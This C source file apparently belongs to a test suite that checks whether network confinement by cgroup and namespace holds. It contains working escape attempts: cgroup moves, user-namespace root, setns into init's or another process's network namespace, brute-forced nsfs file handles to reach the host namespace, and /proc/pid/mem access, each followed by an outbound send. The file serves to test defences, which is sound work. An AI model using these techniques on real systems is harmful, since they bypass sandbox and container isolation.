// SPDX-License-Identifier: BSD-2-Clause
/* Out of the cgroup, out of the namespaces, and around by new ones. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/sched.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void send_now(void)
{
	SEND_TO(open_socket(AF_INET, SOCK_DGRAM, 0), target4);
	SEND_TO(open_socket(AF_INET6, SOCK_DGRAM, 0), target6);
}

static bool write_pid(const char *directory)
{
	char path[600];
	int fd;
	bool moved;

	snprintf(path, sizeof(path), "%s/cgroup.procs", directory);
	fd = open(path, O_WRONLY);
	moved = fd >= 0 && write(fd, "0", 1) == 1;
	if (!moved)
		perror(path);
	if (fd >= 0)
		close(fd);
	return moved;
}

ATTACK(cgroup_move_root, "", "moves itself to the root cgroup")
{
	write_pid(setting("CGROUP_ROOT"));
	send_now();
}
ATTACK(cgroup_move_sibling, "", "makes a cgroup beside its own and moves there")
{
	char path[300];

	snprintf(path, sizeof(path), "%s/../sibling-%d", setting("CGROUP"), getpid());
	if (mkdir(path, 0755) < 0)
		perror("mkdir");
	write_pid(path);
	send_now();
	write_pid(setting("CGROUP"));
	rmdir(path);
}
ATTACK(cgroup_move_child, "", "makes a cgroup below its own and moves there")
{
	char path[300];

	snprintf(path, sizeof(path), "%s/child-%d", setting("CGROUP"), getpid());
	if (mkdir(path, 0755) < 0)
		perror("mkdir");
	write_pid(path);
	send_now();
	write_pid(setting("CGROUP"));
	rmdir(path);
}
ATTACK(cgroup_fresh_mount, "", "mounts cgroup2 anew and moves itself to what is its root")
{
	char place[] = "/tmp/attack-cgroup-XXXXXX";

	if (unshare(CLONE_NEWNS) < 0)
		perror("unshare");
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	if (!mkdtemp(place) || mount("none", place, "cgroup2", 0, NULL) < 0)
		perror("mount");
	write_pid(place);
	send_now();
	umount2(place, MNT_DETACH);
	rmdir(place);
}
ATTACK(cgroup_clone_into, "", "clone3() with CLONE_INTO_CGROUP of the root cgroup")
{
	struct clone_args arguments = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD};
	int fd = need(open(setting("CGROUP_ROOT"), O_RDONLY | O_DIRECTORY), "open");
	long child;

	arguments.cgroup = (uint64_t)fd;
	child = syscall(SYS_clone3, &arguments, sizeof(arguments));
	if (child < 0)
		perror("clone3");
	if (child <= 0) {
		send_now();
		if (child == 0)
			_exit(0);
	}
	wait(NULL);
}
ATTACK(cgroup_namespace, "", "unshares the cgroup namespace")
{
	if (unshare(CLONE_NEWCGROUP) < 0)
		perror("unshare");
	send_now();
}

/* ---- namespaces ----------------------------------------------------------------------------- */

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		perror(path);
	if (fd >= 0)
		close(fd);
}

static void become_root_of_user_namespace(int more)
{
	char map[64];
	unsigned uid = getuid(), gid = getgid();

	if (unshare(CLONE_NEWUSER | more) < 0) {
		perror("unshare");
		return;
	}
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
}

ATTACK(user_namespace, "", "root of a user namespace of its own sends")
{
	become_root_of_user_namespace(0);
	send_now();
}
ATTACK(user_mount_cgroup, "", "user and mount namespaces of its own, a fresh cgroup2 there, out of it")
{
	char place[] = "/tmp/attack-cgroup-XXXXXX";

	if (!mkdtemp(place))
		perror("mkdtemp");
	become_root_of_user_namespace(CLONE_NEWNS | CLONE_NEWCGROUP);
	if (mount("none", place, "cgroup2", 0, NULL) < 0)
		perror("mount");
	write_pid(place);
	send_now();
	umount2(place, MNT_DETACH);
	rmdir(place);
}
ATTACK(user_net_with_old_socket, "", "a socket made here, then network and user namespaces of its own")
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	int raw;

	become_root_of_user_namespace(CLONE_NEWNET);
	SEND_TO(fd, target4);
	raw = socket(AF_INET, SOCK_RAW, 253);
	if (raw >= 0)
		SEND_TO(raw, target4);
}
ATTACK(netns_and_back, "", "a socket carried into another network namespace and back")
{
	int here = need(open("/proc/self/ns/net", O_RDONLY), "open");
	int fd;

	if (unshare(CLONE_NEWNET) < 0)
		perror("unshare");
	fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	if (setns(here, CLONE_NEWNET) < 0)
		perror("setns");
	SEND_TO(fd, target4);
	send_now();
}
ATTACK(setns_of_init, "", "enters process 1's network namespace")
{
	int fd = need(open("/proc/1/ns/net", O_RDONLY), "open");

	if (setns(fd, CLONE_NEWNET) < 0)
		perror("setns");
	send_now();
}
ATTACK(setns_of_outsider, "", "enters the network namespace of a process outside")
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/ns/net", setting("OUTSIDER"));
	fd = need(open(path, O_RDONLY), path);
	if (setns(fd, CLONE_NEWNET) < 0)
		perror("setns");
	send_now();
}
ATTACK(setns_pidfd, "", "enters all namespaces of a process outside by a pidfd")
{
	int fd = need((int)syscall(SYS_pidfd_open, atoi(setting("OUTSIDER")), 0), "pidfd_open");

	if (setns(fd, CLONE_NEWNET | CLONE_NEWCGROUP) < 0)
		perror("setns");
	send_now();
}
ATTACK(setns_parents, "", "enters the network namespace of every process that it sees")
{
	char path[64];
	int here = open("/proc/self/ns/net", O_RDONLY), fd;

	for (int pid = 1; pid < 40; pid++) {
		snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
		fd = open(path, O_RDONLY);
		if (fd < 0 || setns(fd, CLONE_NEWNET) < 0)
			continue;
		send_now();
	}
	setns(here, CLONE_NEWNET);
	send_now();
}
/* Of a namespace's file (nsfs), since Linux 6.18: the machine's own namespaces have ids and inodes that are
 * the same everywhere. */
struct namespace_handle {
	struct file_handle head;
	uint64_t id;
	uint32_t type, inode;
};

static uint64_t handle_id_of(const char *path)
{
	struct namespace_handle *handle = calloc(1, sizeof(*handle));
	int mount;

	handle->head.handle_bytes = sizeof(*handle) - sizeof(handle->head);
	need(name_to_handle_at(AT_FDCWD, path, &handle->head, &mount, AT_SYMLINK_FOLLOW),
	     "name_to_handle_at");
	return handle->id;
}

/* One frame to everybody, on the first wire there is. */
static void send_frame(void)
{
	uint8_t frame[128] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 0xb2, 0x88, 0xb5};
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	char name[16];

	to.sll_ifindex = (int)wire_index(name);
	memcpy(frame + 14, mark, strlen(mark));
	if (sendto(open_socket(AF_PACKET, SOCK_RAW, 0), frame, 14 + strlen(mark), 0, (void *)&to,
		   sizeof(to)) < 0)
		perror("sendto");
}

/* Of the namespaces found only that of the arena is entered: others are the machine's. */
ATTACK(setns_by_handle, "", "enters the host's network namespace by a file handle that it guesses")
{
	/* each processor counts in a range of its own */
	const uint64_t last = handle_id_of("/proc/self/ns/net") + 200000;
	const uint32_t wanted = (uint32_t)strtoul(setting("HOST_NETNS"), NULL, 10);
	int here = need(open("/proc/self/ns/net", O_RDONLY), "open"), fd = -1;
	struct namespace_handle *handle = calloc(1, sizeof(*handle));

	handle->head.handle_bytes = sizeof(*handle) - sizeof(handle->head);
	handle->head.handle_type = 0xf1; /* FILEID_NSFS */
	handle->type = CLONE_NEWNET;
	handle->inode = wanted;
	for (handle->id = 1; fd < 0 && handle->id <= last; handle->id++)
		fd = open_by_handle_at(here, &handle->head, O_RDONLY);
	if (need(fd, "open_by_handle_at") >= 0 && setns(fd, CLONE_NEWNET) < 0)
		perror("setns");
	send_frame();
	send_now();
}
ATTACK(ptrace_outsider, "", "makes a process outside send, by writing into it")
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/mem", setting("OUTSIDER"));
	need(open(path, O_RDWR), path);
	/* who may write there can do anything as that process; this stands for it */
	snprintf(path, sizeof(path), "/proc/%s/ns/net", setting("OUTSIDER"));
	if (setns(need(open(path, O_RDONLY), path), 0) < 0)
		perror("setns");
	send_now();
}
